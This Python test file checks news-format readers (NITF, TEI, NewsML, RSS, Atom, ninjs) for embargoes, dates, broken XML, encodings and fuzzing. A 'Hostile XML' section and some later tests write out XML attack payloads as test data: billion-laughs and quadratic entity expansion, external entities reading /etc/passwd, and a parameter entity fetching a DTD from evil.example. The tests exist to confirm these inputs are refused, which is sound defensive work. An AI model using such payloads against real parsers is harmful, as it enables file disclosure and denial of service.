"""The news industry's formats: what may not be published, what broken and hostile files cost, what is lost is said.

What is read of files that are as they should be stands in ``tests/golden/readers`` (``test_containers.py`` compares it).
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from variorum.model import Metadata, Source, Witness
from variorum.problems import Problem
from variorum.readers import READERS, format_of, read
from variorum.readers.containers import Container, Limits
from variorum.readers.formats import Undecided
from variorum.readers.wire import iso, rights
from variorum.readers.xml import root_of

GOLDEN = Path(__file__).parent / "golden" / "readers"
FILES = sorted(
    p for p in GOLDEN.iterdir() if p.name.endswith((".xml", ".ninjs.json")) and not p.name.endswith(".expected.json")
)
NOTHING = Metadata()
Found = Problem | tuple[Witness, tuple[Problem, ...]]


def everything(data: bytes, path: str = "corpus/a.xml", stated: Metadata = NOTHING) -> list[Found]:
    """What becomes of a file, opened where it is a container: every witness and every problem."""
    return list(_everything(data, path, stated))


def _everything(data: bytes, path: str, stated: Metadata) -> Iterator[Found]:
    found = format_of(path, data)
    if not isinstance(found, Container):
        yield read(Source(path, data, stated))
        return
    for record in found.open(io.BytesIO(data), path, Limits()):
        yield record if isinstance(record, Problem) else read(record)


def one(text: str, stated: Metadata = NOTHING, path: str = "corpus/a.xml") -> Found:
    (found,) = everything(text.encode(), path, stated)
    return found


def fault(text: str, stated: Metadata = NOTHING, path: str = "corpus/a.xml") -> Problem:
    found = one(text, stated, path)
    assert isinstance(found, Problem), found
    return found


def good(text: str, stated: Metadata = NOTHING, path: str = "corpus/a.xml") -> tuple[Witness, tuple[Problem, ...]]:
    found = one(text, stated, path)
    assert not isinstance(found, Problem), found
    return found


def all_said(found: list[Found]) -> tuple[str, list[str]]:
    """(all texts, the codes of all problems)."""
    texts = "\n".join(f[0].text for f in found if not isinstance(f, Problem))
    return texts, [p.code for f in found for p in ([f] if isinstance(f, Problem) else f[1])]


def nitf(body: str, head: str = "", before: str = "") -> str:
    return f"{before}<nitf><head>{head}</head><body><body.content>{body}</body.content></body></nitf>"


def tei(body: str, before: str = "") -> str:
    return f'{before}<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body>{body}</body></text></TEI>'


def newsitem(meta: str, body: str = "<inlineData contenttype='text/plain'>Secret words.</inlineData>") -> str:
    space = 'xmlns="http://iptc.org/std/nar/2006-10-01/"'
    return f"<newsItem {space}><itemMeta>{meta}</itemMeta><contentSet>{body}</contentSet></newsItem>"


def rss(items: str, before: str = "") -> str:
    return f'{before}<rss version="2.0"><channel><title>Post</title>{items}</channel></rss>'


def atom(entries: str, before: str = "") -> str:
    return f'{before}<feed xmlns="http://www.w3.org/2005/Atom"><title>Post</title>{entries}</feed>'


def in_rss(body: str, before: str = "") -> str:
    return rss(f"<item><description>{body}</description></item>", before)


def in_atom(body: str, before: str = "") -> str:
    return atom(f"<entry><content type='xhtml'>{body}</content></entry>", before)


def in_newsitem(body: str, before: str = "") -> str:
    return before + newsitem(
        "", f"<inlineXML><html xmlns='http://www.w3.org/1999/xhtml'><body>{body}</body></html></inlineXML>"
    )


WRAPPED = [nitf, tei, in_newsitem, in_rss, in_atom]


def wrapped(wrap, body: str, before: str = "") -> bytes:
    return (nitf(body, before=before) if wrap is nitf else wrap(body, before)).encode()


# What may not be published


@pytest.mark.parametrize(
    ("meta", "code"),
    [
        ('<pubStatus qcode="stat:canceled"/>', "canceled"),
        ('<pubStatus qcode="stat:withheld"/>', "not-usable"),
        ('<pubStatus uri="http://cv.iptc.org/newscodes/pubstatusg2/canceled"/>', "canceled"),
        ("<embargoed>2032-03-03T06:00:00Z</embargoed>", "embargoed"),
        ("<embargoed/>", "embargoed"),
        ("<versionCreated>2032-03-02T06:00:00Z</versionCreated><embargoed>2032-03-03T06:00:00Z</embargoed>", "embargoed"),
    ],
)
def test_a_news_item_that_may_not_be_published_is_an_error_without_a_word_of_it(meta: str, code: str) -> None:
    found = fault(newsitem(meta))
    assert (found.severity, found.code) == ("error", code)
    assert "Secret" not in found.message


@pytest.mark.parametrize(
    ("meta", "stated"),
    [
        ("", NOTHING),
        ('<pubStatus qcode="stat:usable"/>', NOTHING),
        ("<versionCreated>2032-03-04</versionCreated><embargoed>2032-03-03T06:00:00Z</embargoed>", NOTHING),
        ("<embargoed>2032-03-03T06:00:00Z</embargoed>", Metadata(captured="2032-03-05")),
        ("<embargoed>2032-03-03T06:00:00Z</embargoed>", Metadata(text_mode="full")),
    ],
)
def test_an_item_is_published_when_nothing_bars_it_or_its_embargo_is_known_to_be_over(meta: str, stated: Metadata) -> None:
    assert good(newsitem(meta), stated)[0].text == "Secret words."


def test_a_cancelled_item_stays_out_whatever_the_owner_states() -> None:
    assert fault(newsitem('<pubStatus qcode="stat:canceled"/>'), Metadata(text_mode="full")).code == "canceled"


@pytest.mark.parametrize(
    ("docdata", "code"),
    [
        ('<docdata management-status="canceled"/>', "canceled"),
        ('<docdata management-status="withheld"/>', "not-usable"),
        ('<docdata management-status="embargoed"><date.release norm="20320303"/></docdata>', "embargoed"),
        ('<docdata><date.issue norm="20320302"/><date.release norm="20320305"/></docdata>', "embargoed"),
    ],
)
def test_nitf_that_may_not_be_published_is_an_error(docdata: str, code: str) -> None:
    assert fault(nitf("<p>Secret words.</p>", docdata)).code == code


@pytest.mark.parametrize(
    ("fields", "code"),
    [
        ({"pubstatus": "canceled"}, "canceled"),
        ({"pubStatus": "withheld"}, "not-usable"),
        ({"pubstatus": "usable", "embargoed": "2032-03-03T06:00:00Z"}, "embargoed"),
    ],
)
def test_ninjs_that_may_not_be_published_is_an_error(fields: dict[str, str], code: str) -> None:
    item = json.dumps({"uri": "urn:x", "versioncreated": "2032-03-02", "body_text": "Secret words.", **fields})
    assert fault(item, path="corpus/a.json").code == code


# Dates and rights


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("Tue, 02 Mar 2032 15:40:00 +0100", "2032-03-02T15:40:00+01:00"),
        ("Tue, 02 Mar 2032 15:40:00 GMT", "2032-03-02T15:40:00Z"),
        ("2 March 2032 09:05 EST", "2032-03-02T09:05-05:00"),
        ("Tue, 02 Mar 2032 15:40:00 -0000", "2032-03-02T15:40:00Z"),
        ("Tue, 02 Mar 2032 15:40:00 CEST", "2032-03-02T15:40:00"),
        ("Tue, 02 Mar 2032 15:40:00", "2032-03-02T15:40:00"),
        ("2 Mar 2032", "2032-03-02"),
        ("20320302T154000+0100", "2032-03-02T15:40:00+01:00"),
        ("20320302T1540Z", "2032-03-02T15:40Z"),
        ("20320302", "2032-03-02"),
        ("2032-03-02t15:40:00.5z", "2032-03-02T15:40:00.5Z"),
        ("2032-03-02 15:40:00 +0100", "2032-03-02T15:40:00+01:00"),
        ("2032-03-02+01:00", "2032-03-02"),
        ("2032-03", "2032-03"),
        ("yesterday", "yesterday"),
    ],
)
def test_dates_keep_their_zone_and_their_precision(said: str, expected: str) -> None:
    assert iso(said) == expected


def test_a_date_that_is_none_is_dropped_and_named() -> None:
    witness, problems = good(
        rss("<item><title>Quay</title><pubDate>Tomorrow</pubDate><description>Shut.</description></item>")
    )
    assert witness.meta.published is None
    assert "bad-date" in [p.code for p in problems]


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        (["© 2032 Kellwire", None, "No resale"], "© 2032 Kellwire; No resale"),
        (
            ["© 2032 Kellwire", "https://creativecommons.org/licenses/by/4.0/"],
            "https://creativecommons.org/licenses/by/4.0/",
        ),
        (["x" * 301, "© Kellwire"], "© Kellwire"),
        ([], ""),
    ],
)
def test_rights_are_a_licence_or_short_notices(said: list[str | None], expected: str) -> None:
    assert rights(said) == expected


# Hostile XML

ENTITIES = (
    '<!DOCTYPE x [\n<!ENTITY a "aaaaaaaaaa">\n<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE x [\n<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [\n<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
    f'<!DOCTYPE x [\n<!ENTITY a "{"a" * 50_000}">]>',
)


@pytest.mark.parametrize("wrap", WRAPPED)
@pytest.mark.parametrize("doctype", ENTITIES, ids=["laughs", "external", "parameter", "quadratic"])
def test_a_file_that_declares_entities_is_refused_with_the_line(wrap, doctype: str) -> None:
    (found,) = everything(wrapped(wrap, "<p>start &a; end</p>", doctype))
    assert isinstance(found, Problem)
    assert (found.severity, found.code, found.line) == ("error", "xml-entities", 2)


def test_a_document_type_elsewhere_is_never_fetched_and_its_usual_names_are_read() -> None:
    before = '<!DOCTYPE nitf SYSTEM "file:///etc/passwd">'
    witness, problems = good(nitf("<p>A&nbsp;quay &mdash; shut.</p>", before=before))
    assert (witness.text, problems) == ("A quay — shut.", ())


@pytest.mark.parametrize("wrap", WRAPPED)
@pytest.mark.parametrize("depth", [100, 230, 300, 5000])
def test_words_of_a_deep_tree_are_read_or_the_depth_is_an_error(wrap, depth: int) -> None:
    body = f"<p>start</p>{'<div>' * depth}deep{'</div>' * depth}<p>end</p>"
    text, codes = all_said(everything(wrapped(wrap, body)))
    assert codes == ["xml-limit"] if depth > 250 else all(word in text for word in ("start", "deep", "end"))


@pytest.mark.parametrize("wrap", [in_rss, in_atom])
def test_a_text_over_the_limit_of_the_parser_is_an_error_with_its_line(wrap) -> None:
    (found,) = everything(wrapped(wrap, f"<p>start</p>\n<p>{'deep ' * 2_100_000}</p><p>end</p>"))
    assert isinstance(found, Problem)
    assert (found.severity, found.code, found.line) == ("error", "xml-limit", 2)


@pytest.mark.parametrize(
    "data",
    [
        b"<rss>" + b"<![CDATA[" * 100_000,
        b'<rss version="2.0">' + b"<" * 300_000,
        b"<rss " + b'"' * 300_000,
        b"<rss>" + b"&" * 300_000 + b"</rss>",
        b"<rss>" + b"<a" * 100_000,
        b"<rss>" + b"<!--" * 100_000,
        b"<rss>" + b"<a>" * 100_000 + b"</b>" * 100_000,
        b"<rss>" + b"<a></b>\n" * 100_000,
        b"<rss>&#" + b"9" * 100_000 + b";</rss>",
    ],
)
def test_what_looks_like_markup_without_end_takes_no_time(data: bytes) -> None:
    assert everything(data)


# Broken XML


@pytest.mark.parametrize(
    ("text", "line", "column", "right"),
    [
        (nitf("<p>one</p>\n<p>two"), 2, "column", "close every element"),
        (nitf("<p>one & two</p>\n"), 1, "column 48", "&amp;"),
        ("<nitf>\n<body>", 2, "column", "deliver it whole"),
        ("<nitf></nitf>\n<nitf></nitf>", 2, "column 1", "a file of each document"),
        (nitf("\n<p class=x>one</p>"), 2, "column", "quotation marks"),
    ],
)
def test_broken_xml_is_an_error_with_line_column_and_what_would_be_right(
    text: str, line: int, column: str, right: str
) -> None:
    found = fault(text)
    assert (found.severity, found.code, found.line) == ("error", "broken-xml", line)
    assert column in found.message and right in found.message


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("A & B < 3.", "A & B < 3."),
        ("One<br>two.", "One two."),
        ("<p>One<br>two.</p>", "One two."),
        ("A&nbsp;quay &nonsense; it is.", "A quay &nonsense; it is."),
        ("One \x07two ]]> three.", "One \ufffdtwo ]]> three."),
        ("One <b>two.", "One two."),
        ("<p>One</p></p> <i>two</b>.</I>", "One two."),
        ("One &#1; two.", "One \ufffd two."),
    ],
)
def test_a_feed_that_is_not_well_formed_is_mended_without_a_loss_and_with_a_warning(text: str, said: str) -> None:
    found = everything(in_rss(text).encode())
    witnesses = [f[0] for f in found if not isinstance(f, Problem)]
    mended = [f for f in found if isinstance(f, Problem)]
    assert " ".join(witnesses[0].text.split()) == said
    assert [(p.severity, p.code) for p in mended] == [("warning", "mended")]


def test_a_feed_of_which_something_would_be_lost_is_an_error() -> None:
    assert fault(in_rss("<p x=y>start</p> end")).code == "broken-xml"


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b'<?xml version="1.0" encoding="iso-8859-1"?>' + nitf("<p>Käpten “Q”</p>").encode("cp1252"), "Käpten “Q”"),
        (nitf("<p>Käpten</p>", before='<?xml version="1.0" encoding="utf-16"?>').encode("utf-16"), "Käpten"),
        (nitf("<p>Käpten</p>", before='<?xml version="1.0" encoding="iso-8859-1"?>').encode(), "Käpten"),
        (nitf("<p>Käpten</p>", before="\ufeff").encode(), "Käpten"),
    ],
)
def test_the_encoding_is_that_of_the_bytes_the_declaration_or_the_mark(data: bytes, said: str) -> None:
    assert all_said(everything(data))[0] == said


@pytest.mark.parametrize("encoding", ["rot13", "utf-7", "klingon", "unicode_escape"])
def test_an_encoding_nobody_knows_is_an_error(encoding: str) -> None:
    assert fault(nitf("<p>one</p>", before=f'<?xml version="1.0" encoding="{encoding}"?>')).code == "undecodable"


def test_a_file_that_includes_another_says_that_it_is_not_fetched() -> None:
    body = '<p>one</p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    witness, problems = good(tei(body))
    assert (witness.text, [p.code for p in problems]) == ("one", ["not-included"])


# Formats


@pytest.mark.parametrize(
    ("head", "root"),
    [
        (b"<nitf>", ("", "nitf")),
        (b"\n <?xml version='1.0'?><!-- <a> --><!DOCTYPE a [<!ENTITY b '<c>'>]>\n<x:a xmlns:x='urn:a'>", ("urn:a", "a")),
        (b'\xef\xbb\xbf<a xmlns = "urn:a"', ("urn:a", "a")),
        ("<a/>".encode("utf-16"), ("", "a")),
        (b"<!-- no end", None),
        (b"{}", None),
    ],
)
def test_the_document_element_is_told_from_the_head_of_a_file(head: bytes, root: tuple[str, str] | None) -> None:
    assert root_of(head) == root


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_each_format_claims_its_own_files_and_no_other(path: Path) -> None:
    assert not isinstance(format_of(path.name, path.read_bytes()), Undecided)


def test_xml_of_another_kind_is_named_with_the_kinds_that_are_read() -> None:
    found = fault("<svg/>")
    assert (found.severity, found.code) == ("warning", "unknown-content")
    assert all(f"“{r.name}”" in found.message for r in READERS if ".xml" in r.suffixes)


# Teasers and items without a text


@pytest.mark.parametrize(
    ("item", "partial"),
    [
        ("<description>The quay is shut…</description>", True),
        ("<description>The quay is shut.</description>", True),
        (f"<description>{'The quay is shut. ' * 60}</description>", False),
        (f"<description>{'The quay is shut. ' * 60} Read more</description>", True),
        ("<e:encoded xmlns:e='http://purl.org/rss/1.0/modules/content/'>The quay is shut.</e:encoded>", False),
        ("<e:encoded xmlns:e='http://purl.org/rss/1.0/modules/content/'>The quay is [...]</e:encoded>", True),
    ],
)
def test_an_entry_that_is_only_a_teaser_is_marked(item: str, partial: bool) -> None:
    _, problems = good(rss(f"<item><title>Quay</title>{item}</item>"))
    assert [p.code for p in problems] == (["partial"] if partial else [])


@pytest.mark.parametrize("kind", ["picture", "video"])
def test_a_picture_is_no_article(kind: str) -> None:
    item = json.dumps({"uri": "urn:x", "versioncreated": "2032", "type": kind, "headline": "Quay"})
    assert fault(item, path="corpus/a.json").code == "no-article"
    assert fault(newsitem("", "<remoteContent href='a.jpg'/>")).code == "no-article"


# Nothing raises, nothing is lost unsaid

PATHS = st.sampled_from([f"corpus/a{s}" for s in (".xml", ".nitf", ".newsml", ".tei", ".rss", ".atom", ".ninjs", ".json")])
MARKUP = (
    "<nitf> <body> <body.content> </p> <p> <rss><channel> <item> <title> &amp; & <![CDATA[ ]]> <entry> <TEI> <text> "
    '<newsItem> <contentSet> <inlineXML> words <!-- --> <?x ?> \x00 ü {"uri": "bodies":[ {"value":1} ] } , <br/> '
    '"pubstatus":"usable" <!DOCTYPE \ud800 &#1; &#xFFFFFFF; <choice> <app> <lb/> <feed '
    "xmlns='http://www.w3.org/2005/Atom'>"
)
PIECES = st.sampled_from([*MARKUP.split(" "), " "])


@given(st.binary(), PATHS)
def test_no_bytes_make_a_reader_raise(data: bytes, path: str) -> None:
    assert everything(data, path) or data


@given(st.lists(PIECES, max_size=30).map("".join), PATHS)
def test_no_pieces_of_markup_make_a_reader_raise(text: str, path: str) -> None:
    everything(text.encode("utf-8", "surrogatepass"), path)


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_a_file_cut_off_anywhere_is_read_or_reported(path: Path) -> None:
    data = path.read_bytes()
    for k in range(20):
        cut = data[: len(data) * k // 20]
        found = everything(cut, f"corpus/{path.name}")
        _, codes = all_said(found)
        assert codes, f"cut at {len(cut)}"  # what is missing is always said


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
@settings(max_examples=20)
@given(data=st.data())
def test_a_file_with_bytes_changed_makes_no_reader_raise(path: Path, data: st.DataObject) -> None:
    raw = bytearray(path.read_bytes())
    for _ in range(data.draw(st.integers(1, 4))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    everything(bytes(raw), f"corpus/{path.name}")


@given(
    st.lists(st.sampled_from("<p> </p> <b> </b> <br/> <br> & < ä \x01 ]]> &nbsp;".split(" ")), max_size=12),
    st.sampled_from(WRAPPED),
)
def test_the_canaries_are_read_or_the_loss_is_reported(noise: list[str], wrap) -> None:
    half = len(noise) // 2
    body = f"start {''.join(noise[:half])} deep {''.join(noise[half:])} end"
    text, codes = all_said(everything(wrapped(wrap, body)))
    assert all(word in text for word in ("start", "deep", "end")) or {"broken-xml", "binary-file"} & {*codes}
